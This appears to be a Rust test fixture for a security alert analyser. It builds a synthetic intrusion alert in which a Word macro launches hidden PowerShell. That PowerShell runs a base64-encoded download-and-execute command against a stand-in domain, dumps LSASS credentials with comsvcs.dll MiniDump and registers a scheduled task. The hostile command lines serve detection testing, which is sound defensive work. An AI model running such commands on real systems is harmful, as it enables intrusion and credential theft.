//! Alerts, built from names that a test chooses.

use aside_analyst::rules::RuleSet;
use aside_shared::alert::{
    Alert, AlertKey, Disposition, Entity, EntityKind, Evidence, EvidenceSource, File, Host, Object,
    Outcome, Process, Severity, SeverityLevel, User, Verb,
};
use aside_shared::analysis::{Analysis, Claim};
use aside_shared::id::EntityId;
use aside_shared::instant::{Clock, Instant};
use aside_shared::text::plain;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// What can be named otherwise without changing what happened.
#[derive(Clone, Debug)]
pub struct Names {
    pub host: String,
    pub user: String,
    pub document: String,
    pub folder: String,
    pub domain: String,
    pub address: String,
    pub dump: String,
    pub task: String,
    pub hash: String,
    pub hours: i64,
}

impl Names {
    pub fn first() -> Self {
        Self {
            host: "FIN-LT-204".to_owned(),
            user: r"ACME\j.smith".to_owned(),
            document: "remittance.docm".to_owned(),
            folder: r"C:\Windows\Temp".to_owned(),
            domain: "cdn-sync.example".to_owned(),
            address: "203.0.113.47".to_owned(),
            dump: "d.bin".to_owned(),
            task: "Sync Helper".to_owned(),
            hash: "a".repeat(64),
            hours: 0,
        }
    }

    pub fn second() -> Self {
        Self {
            host: "lab-ws-9".to_owned(),
            user: r"CORP\maria".to_owned(),
            document: "invite-4.docm".to_owned(),
            folder: r"D:\Work\Out".to_owned(),
            domain: "static.files.test".to_owned(),
            address: "198.51.100.9".to_owned(),
            dump: "report.tmp".to_owned(),
            task: "Nightly Index".to_owned(),
            hash: "0b".repeat(32),
            hours: 4711,
        }
    }

    pub fn all(&self) -> [&str; 7] {
        [
            &self.host,
            &self.user,
            &self.document,
            &self.domain,
            &self.address,
            &self.dump,
            &self.task,
        ]
    }
}

/// The script that the fixture's PowerShell runs.
pub fn script(names: &Names) -> String {
    format!(
        "IEX (New-Object Net.WebClient).DownloadString('http://{}/a.ps1')",
        names.domain
    )
}

pub fn utf16_base64(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

pub fn at(names: &Names, second: i64) -> Instant {
    let unix_ms = 1_794_321_060_000 + names.hours * 3_600_000 + second * 1000;
    Instant::from_unix_ms(unix_ms, Clock::Cloud)
}

pub fn seen(
    at: Option<Instant>,
    subject: &str,
    verb: Verb,
    object: Option<Object>,
    outcome: Outcome,
) -> Evidence {
    Evidence {
        at,
        outcome,
        ..Evidence::new(EvidenceSource::Telemetry, subject, verb, object)
    }
    .identified()
}

pub fn entity(id: &str, kind: EntityKind) -> Entity {
    Entity {
        id: EntityId::from(id),
        kind,
    }
}

pub fn host(id: &str, name: &str, os: &str) -> Entity {
    entity(
        id,
        EntityKind::Host(Host {
            id: id.into(),
            name: Some(name.to_owned()),
            os: Some(os.to_owned()),
            role: Some("Workstation".to_owned()),
            domain: None,
            addresses: Vec::new(),
        }),
    )
}

pub fn user(id: &str, name: &str) -> Entity {
    entity(
        id,
        EntityKind::User(User {
            name: name.to_owned(),
            uid: None,
        }),
    )
}

/// A process on `host`, run by `user`.
pub fn process(id: &str, path: &str, line: &str, parent: Option<&str>) -> Entity {
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
    entity(
        id,
        EntityKind::Process(Box::new(Process {
            pid: Some(4242),
            name: name.to_owned(),
            path: Some(path.to_owned()),
            command_line: Some(line.to_owned()),
            user: Some(EntityId::from("user")),
            host: Some(EntityId::from("host")),
            parent: parent.map(EntityId::from),
            ..Process::default()
        })),
    )
}

/// An alert with nothing in it.
pub fn empty(title: &str) -> Alert {
    Alert {
        severity: Severity {
            level: SeverityLevel::High,
            raw: None,
        },
        disposition: Disposition {
            outcome: Outcome::Happened,
            text: None,
            measures: Vec::new(),
        },
        ..Alert::new(
            AlertKey {
                tenant: "tenant".into(),
                platform: "invented".into(),
                id: "alert:1|2".into(),
            },
            title,
        )
    }
}

/// A document started PowerShell, which fetched a script, dumped LSASS and registered a task.
/// `arguments` is what PowerShell was given after its switches.
pub fn intrusion(names: &Names, arguments: &str) -> Alert {
    let system = r"\Device\HarddiskVolume3\Windows\System32";
    let office = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let dump = format!(r"{}\{}", names.folder, names.dump);
    let entities = vec![
        host("host", &names.host, "Windows"),
        user("user", &names.user),
        process(
            "explorer",
            r"C:\Windows\explorer.exe",
            r"C:\Windows\explorer.exe",
            None,
        ),
        process(
            "word",
            office,
            &format!(r#""{office}" /n "{}""#, names.document),
            Some("explorer"),
        ),
        process(
            "shell",
            &format!(r"{system}\WindowsPowerShell\v1.0\powershell.exe"),
            &format!("powershell.exe -nop -w hidden {arguments}"),
            Some("word"),
        ),
        process(
            "dumper",
            &format!(r"{system}\rundll32.exe"),
            &format!(r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 712 {dump} full"),
            Some("shell"),
        ),
        entity(
            "dump",
            EntityKind::File(File {
                path: dump,
                sha256: Some(names.hash.clone()),
            }),
        ),
        entity(
            "domain",
            EntityKind::Domain {
                name: names.domain.clone(),
            },
        ),
        entity(
            "address",
            EntityKind::Endpoint {
                ip: names.address.clone(),
                port: Some(443),
            },
        ),
        entity(
            "task",
            EntityKind::Task {
                name: names.task.clone(),
                command: Some(format!(r"powershell.exe -File {}\s.ps1", names.folder)),
            },
        ),
    ];
    let to = |id: &str| Some(Object::Entity(EntityId::from(id)));
    let happened = |second, subject: &str, verb, object| {
        seen(
            Some(at(names, second)),
            subject,
            verb,
            object,
            Outcome::Happened,
        )
    };
    let evidence = vec![
        happened(0, "explorer", Verb::Started, to("word")),
        happened(15, "word", Verb::Started, to("shell")),
        happened(16, "shell", Verb::Resolved, to("domain")),
        happened(17, "shell", Verb::ConnectedTo, to("address")),
        happened(40, "shell", Verb::Started, to("dumper")),
        happened(41, "dumper", Verb::Wrote, to("dump")),
        happened(50, "shell", Verb::RegisteredTask, to("task")),
        happened(
            60,
            "dumper",
            Verb::Detected,
            Some(Object::Value("Suspicious activity".to_owned())),
        ),
    ];
    let mut alert = empty("Suspicious activity");
    alert.hosts = vec!["host".into()];
    alert.users = vec!["user".into()];
    alert.trigger = Some("dumper".into());
    alert.created = Some(at(names, 60));
    alert.merge(entities, evidence);
    alert
}

/// The fixture with its usual encoding.
pub fn encoded(names: &Names) -> Alert {
    intrusion(names, &format!("-enc {}", utf16_base64(&script(names))))
}

pub fn analyse(alert: &Alert) -> Analysis {
    aside_analyst::analyse(RuleSet::built_in(), alert)
}

/// The alert with what was derived, as the panel has it.
pub fn whole(alert: &Alert, analysis: &Analysis) -> Alert {
    let mut whole = alert.clone();
    whole.merge(Vec::new(), analysis.derived.clone());
    whole
}

pub fn sentences(claims: &[Claim]) -> Vec<String> {
    claims.iter().map(|claim| plain(&claim.sentence)).collect()
}

/// Everything that an analysis says, as one text.
pub fn said(analysis: &Analysis) -> String {
    let signals = analysis
        .assessment
        .score
        .groups
        .iter()
        .flat_map(|group| &group.signals);
    let sentences = analysis
        .claims
        .iter()
        .map(|claim| &claim.sentence)
        .chain(analysis.timeline.iter().map(|entry| &entry.sentence))
        .chain(analysis.recommendations.iter().map(|step| &step.title))
        .chain(signals.map(|signal| &signal.sentence));
    let mut lines: Vec<String> = sentences.map(|sentence| plain(sentence)).collect();
    lines.extend(analysis.derived.iter().filter_map(|it| match &it.object {
        Some(Object::Value(text)) => Some(text.clone()),
        _ => None,
    }));
    lines.join("\n")
}
